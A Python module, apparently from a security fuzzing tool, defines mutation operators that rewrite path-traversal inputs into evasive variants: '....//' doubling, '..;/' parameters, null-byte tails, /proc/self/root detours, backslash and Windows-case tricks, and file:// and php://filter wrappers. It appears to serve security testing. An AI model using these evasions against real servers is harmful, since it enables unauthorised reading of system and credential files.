"""Paths written differently that lead to the same file."""

import functools
import re

from operators import FILES, Operators, some

operator = Operators(("path-traversal",), FILES)
ALL = operator.all

# Folders that every Linux system has, so that a path may lead into them and out again.
FOLDERS = frozenset("etc proc var usr tmp dev home root bin lib".split())
UP = re.compile(r"(?:\.\./)+")
# Encoded paths are for operators of the carrier.
PLAIN = re.compile(r"[\w./ ~-]+")
NAMES_WINDOWS = re.compile(r"(?i)\A[a-z]:|\\|win(?:dows|nt)?[./\\]|boot\.ini|inetpub|xampp|program files|\.ini\Z|system32")
NAMES_LINUX = re.compile(r"(?:\A|/)(?:etc|proc|var|usr|root|home|dev|opt|tmp|bin)(?:/|\Z)")


def victims(text):
    linux, windows = NAMES_LINUX.search(text), NAMES_WINDOWS.search(text)
    if bool(linux) == bool(windows):
        return FILES
    return frozenset(("linux",)) if linux else frozenset(("windows",))


def on_paths(change):
    """`change` writes a path with `/` anew that consists of names only."""
    @functools.wraps(change)
    def apply(text, random):
        if not PLAIN.fullmatch(text) or "/" not in text or re.search(r"\.{3,}|//", text) or not re.search(r"[a-z]", text):
            return None
        new = change(text, random)
        return new if new != text else None
    return apply


def at_slashes(text, random, make):
    places = [it.start() for it in re.finditer("/", text)]
    chosen = set(some(places, random, 0.5))
    return "".join(make() if at in chosen else c for at, c in enumerate(text))


@operator("path-dot-folders")
@on_paths
def dot_folders(text, random):
    return at_slashes(text, random, lambda: random.choice(("/./", "/././", "/./././")))


@operator("path-repeated-slashes")
@on_paths
def repeated_slashes(text, random):
    # Two slashes at the very front may name a host.
    front = "/" if text.startswith("/") else ""
    if "/" not in text[len(front):]:
        return None
    return front + at_slashes(text[len(front):], random, lambda: "/" * random.randint(2, 4))


@operator("path-detour")
@on_paths
def detour(text, random):
    """Into a folder of the path itself and out again."""
    found = [it for it in re.finditer(r"(?:\A|/)([a-z]+)/", text) if it[1] in FOLDERS and (it.start() == 0 and text[0] == "/" or "../" in text[:it.start() + 1])]
    if not found:
        return None
    it = random.choice(found)
    return text[:it.end()] + f"../{it[1]}/" * random.randint(1, 3) + text[it.end():]


@operator("path-further-up")
@on_paths
def further_up(text, random):
    """The root's parent is the root: for paths that are at the root already."""
    found = UP.search(text)
    if not found or len(found[0]) < 12 or found.start() > 1:
        return None
    return text[:found.start()] + "../" * random.randint(1, 12) + text[found.start():]


@operator("path-absolute", needs="a path that is joined as the file system does, or not at all")
@on_paths
def absolute(text, random):
    found = UP.match(text)
    if not found or len(found[0]) < 12 or not NAMES_LINUX.match(text[found.end():]):
        return None
    return "/" + text[found.end():]


@operator("path-through-proc", victims=("linux",))
@on_paths
def through_proc(text, random):
    found = UP.match(text.removeprefix("/"))
    front = text.startswith("/") + (len(found[0]) if found else 0)
    if not (text.startswith("/") or (found and len(found[0]) >= 12)) or not NAMES_LINUX.match(text[front:]) or text[front:].startswith("proc/self"):
        return None
    return text[:front] + random.choice(("proc/self/root/", "proc/self/cwd/../../../../../../../../../../", "dev/../proc/self/root/")) + text[front:]


@operator("path-backslashes", victims=("windows",))
@on_paths
def backslashes(text, random):
    return text.replace("/", "\\") if random.random() < 0.5 else at_slashes(text, random, lambda: "\\")


@operator("path-windows-case", victims=("windows",))
def windows_case(text, random):
    if not NAMES_WINDOWS.search(text) or NAMES_LINUX.search(text) or "%" in text:
        return None
    new = "".join(random.choice((c.lower(), c.upper())) if c.isascii() else c for c in text)
    return new if new != text else None


@operator("path-windows-tail", victims=("windows",))
def windows_tail(text, random):
    if not re.search(r"(?i)[\\/][\w-]+\.[a-z]{3}\Z", text) or NAMES_LINUX.search(text) or not NAMES_WINDOWS.search(text):
        return None
    return text + random.choice((".", " ", "...", "::$DATA", ". ."))


@operator("path-doubled-up", needs="a filter that removes `../` once")
@on_paths
def doubled_up(text, random):
    if "../" not in text:
        return None
    return text.replace("../", random.choice(("....//", "..././")))


@operator("path-semicolon", needs="a server that drops path parameters (`;...`)")
@on_paths
def semicolon(text, random):
    if "../" not in text:
        return None
    return text.replace("../", random.choice(("..;/", "..;a=b/", "..;x/")))


@operator("path-zero-tail", needs="a path that ends at a zero byte")
@on_paths
def zero_tail(text, random):
    return text + "\0" + random.choice((".png", ".html", "", ".pdf", "a.txt"))


@operator("path-file-address", needs="a victim that opens addresses as well as files")
@on_paths
def file_address(text, random):
    if not text.startswith("/") or text.startswith("/.."):
        return None
    return random.choice(("file://", "file://localhost", "FILE://", "file:")) + text


@operator("path-php-wrapper", needs="PHP's wrappers")
@on_paths
def php_wrapper(text, random):
    return random.choice(("php://filter/resource=", "PHP://filter/resource=", "php://filter/convert.base64-encode|convert.base64-decode/resource=")) + text
